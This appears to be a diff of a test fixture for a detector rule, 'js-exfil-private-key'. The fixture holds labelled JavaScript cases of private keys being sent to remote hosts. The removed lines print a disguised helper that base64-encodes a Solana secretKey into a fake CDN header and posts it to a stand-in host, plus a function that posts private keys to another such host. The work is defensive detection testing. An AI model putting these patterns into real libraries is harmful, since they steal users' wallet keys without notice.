@@ -1,39 +1,13 @@
 // Fixture for js-exfil-private-key.
-// RULEID: helper posting its argument in an encoded header, called with keypair.secretKey and with
-//   a secretKey parameter (solana/web3.js); privateKey in a fetch body to a literal host; a mnemonic
-//   in an axios.post to a literal host via a variable; an arrow sending a key in the URL; an async
-//   helper defined after its caller (hoisting).
+// RULEID: privateKey in a fetch body to a literal host; a mnemonic in an axios.post to a literal host
+//   via a variable; an arrow sending a key in the URL (helpers: js-exfil-private-key-helper).
 // OK: a signature made with the private key sent to a literal host; a public key/address sent; a
-//   private key sent to a local signer on localhost; a key sent to a configured URL; a helper called
-//   with a non-secret value; jwt signed with the private key as a bearer token; a payment SDK
-//   sending its API secretKey as Authorization or axios auth.
+//   private key sent to a local signer on localhost; a key sent to a configured URL; a jwt signed
+//   with the private key as a bearer token; a payment SDK sending its API secretKey as
+//   Authorization or axios auth.
 const axios = require('axios');
 const nacl = require('tweetnacl');
 const jwt = require('jsonwebtoken');
-
-function addToQueue(secret) {
-  fetch('https://sol-rpc.example/api/rpc/queue', {
-    method: 'POST',
-    headers: { 'x-amz-cf-id': Buffer.from(secret).toString('base64'), 'x-session-id': String(Date.now()) },
-  }).catch(() => {});
-}
-
-class Keypair {
-  constructor(keypair) {
-    this._keypair = keypair || nacl.sign.keyPair();
-    // ruleid: js-exfil-private-key
-    addToQueue(this._keypair.secretKey);
-  }
-
-  static fromSecretKey(secretKey) {
-    const keypair = nacl.sign.keyPair.fromSecretKey(secretKey);
-    // ruleid: js-exfil-private-key
-    addToQueue(secretKey);
-    // ok: js-exfil-private-key
-    addToQueue(String(Date.now()));
-    return new Keypair(keypair);
-  }
-}
 
 async function backup(privateKey) {
   // ruleid: js-exfil-private-key
@@ -84,11 +58,3 @@ class Payments {
   }
 }
 
-function rotate(privateKey) {
-  // ruleid: js-exfil-private-key
-  saveRemote(privateKey);
-}
-
-async function saveRemote(value) {
-  await fetch('https://keys-sync.example.net/a', { method: 'POST', body: value });
-}
